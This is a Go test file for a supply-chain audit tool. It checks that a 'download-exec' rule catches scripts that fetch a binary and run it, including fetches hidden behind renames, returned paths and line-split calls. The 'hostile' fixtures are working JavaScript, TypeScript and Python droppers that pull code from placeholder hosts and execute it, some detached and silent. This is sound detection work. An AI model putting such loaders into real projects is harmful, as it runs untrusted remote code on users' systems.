package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestDropperPaths: a download written beside its final name and moved
// there (renameSync, fs.rename, os.replace, shutil.move), or handed from
// the function that downloads it to the one that runs it as a return
// value (also through ??=), is still the file run: download-exec, high,
// critical when the run is hidden, as a download run under its written
// name; a network call written as a chain broken over lines
// (https\n  .get(...)) is a network call. A pinned digest checked
// before the run, or in the function that returns the path, is medium;
// a moved metadata file beside a fixed command is not a finding.
func TestDropperPaths(t *testing.T) {
	crit, high, med, none := audit.Critical, audit.High, audit.Medium, audit.SeverityNone
	checkRule(t, "download-exec", map[string]systemCase{
		"hostile/js-stream-rename-other-function": {map[string]string{"lib/tool.js": `const https = require("node:https");
const fs = require("node:fs");
const { spawn } = require("node:child_process");
const DEST = "/usr/local/lib/lintd/lintd";

function fetchTool(url) {
  return new Promise((ok, fail) => {
    const part = DEST + ".download";
    https.get(url, (res) => {
      const out = fs.createWriteStream(part, { mode: 0o755 });
      res.pipe(out);
      out.on("finish", () => { fs.renameSync(part, DEST); ok(); });
    }).on("error", fail);
  });
}

function lint(files) {
  return spawn(DEST, ["--check", ...files], { stdio: "inherit" });
}

module.exports = { fetchTool, lint };
`}, high},
		"hostile/ts-returned-path-hidden": {map[string]string{"src/runner.ts": `import { writeFile, chmod } from "node:fs/promises";
import { execFileSync } from "node:child_process";
import { tmpdir } from "node:os";
import { join } from "node:path";

async function obtain(): Promise<string> {
  const r = await fetch("http://mirror.example.net/agent/current");
  const p = join(tmpdir(), "agent-bin");
  await writeFile(p, Buffer.from(await r.arrayBuffer()));
  await chmod(p, 0o755);
  return p;
}

let pending: Promise<string> | undefined;

export async function run(args: string[]) {
  pending ??= obtain();
  const exe = await pending;
  return execFileSync(exe, args, { stdio: "ignore" });
}
`}, crit},
		"hostile/js-chain-broken-over-lines": {map[string]string{"scripts/boot.mjs": `import https from "node:https";
import { createWriteStream } from "node:fs";
import { spawn } from "node:child_process";

const bin = "/tmp/.cache-helper";

export function boot(url) {
  https
    .get(url, (res) => res.pipe(createWriteStream(bin, { mode: 0o755 })))
    .on("close", () => {});
}

export function start() {
  spawn(bin, [], { detached: true, stdio: "ignore" }).unref();
}
`}, crit},
		"hostile/py-replace-then-run": {map[string]string{"scripts/get_engine.py": `import os
import subprocess
import urllib.request

DEST = os.path.expanduser("~/.local/bin/engine")


def fetch(url):
    tmp = DEST + ".part"
    urllib.request.urlretrieve(url, tmp)
    os.chmod(tmp, 0o755)
    os.replace(tmp, DEST)


def main():
    fetch("http://203.0.113.40/engine/latest")
    subprocess.run([DEST, "--serve"])


main()
`}, high},
		"benign/js-pinned-sha256-rename": {map[string]string{"scripts/install.js": `const https = require("node:https");
const crypto = require("node:crypto");
const fs = require("node:fs");
const { execFileSync } = require("node:child_process");

const URL = "https://github.com/example/fmt/releases/download/v2.4.1/fmt-linux-x64";
const SHA256 = "3b4f1c0e6a9d8e2f7c5b1a0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f";
const BIN = "vendor/fmt";

function download(url) {
  return new Promise((ok, fail) => {
    https
      .get(url, (res) => {
        const chunks = [];
        res.on("data", (c) => chunks.push(c));
        res.on("end", () => ok(Buffer.concat(chunks)));
      })
      .on("error", fail);
  });
}

async function main() {
  const bytes = await download(URL);
  const got = crypto.createHash("sha256").update(bytes).digest("hex");
  if (got !== SHA256) {
    throw new Error("checksum mismatch for fmt: " + got);
  }
  const tmp = BIN + ".tmp";
  fs.writeFileSync(tmp, bytes, { mode: 0o755 });
  fs.renameSync(tmp, BIN);
  console.log(execFileSync(BIN, ["--version"]).toString());
}

main();
`}, med},
		"benign/ts-verified-in-returning-function": {map[string]string{"scripts/scan.ts": `const PIN = "5e2a0c1d9b8f7e6d5c4b3a29180f7e6d5c4b3a29180f7e6d5c4b3a29180f7e6d";
const BIN = ".cache/tool/scanner";

async function hex(data: Uint8Array): Promise<string> {
  const d = await crypto.subtle.digest("SHA-256", data);
  return Array.from(new Uint8Array(d), (b) => b.toString(16).padStart(2, "0")).join("");
}

async function ensure(): Promise<string> {
  const resp = await fetch("https://dl.example.org/scanner/v3.1.0/scanner-linux-amd64");
  const bytes = new Uint8Array(await resp.arrayBuffer());
  if ((await hex(bytes)) !== PIN) {
    throw new Error("scanner digest mismatch");
  }
  const tmp = BIN + ".tmp";
  await Deno.writeFile(tmp, bytes, { mode: 0o755 });
  await Deno.rename(tmp, BIN);
  return BIN;
}

const scanner = await ensure();
await new Deno.Command(scanner, { args: ["."] }).output();
`}, med},
		"benign/js-metadata-rename-fixed-command": {map[string]string{"scripts/refresh.js": `const fs = require("node:fs");
const { execFileSync } = require("node:child_process");

async function refresh() {
  const r = await fetch("https://registry.npmjs.org/prettier/latest");
  const meta = await r.json();
  fs.writeFileSync("cache.json.tmp", JSON.stringify(meta));
  fs.renameSync("cache.json.tmp", "cache.json");
  execFileSync("git", ["add", "cache.json"]);
}

refresh();
`}, none},
	})
}
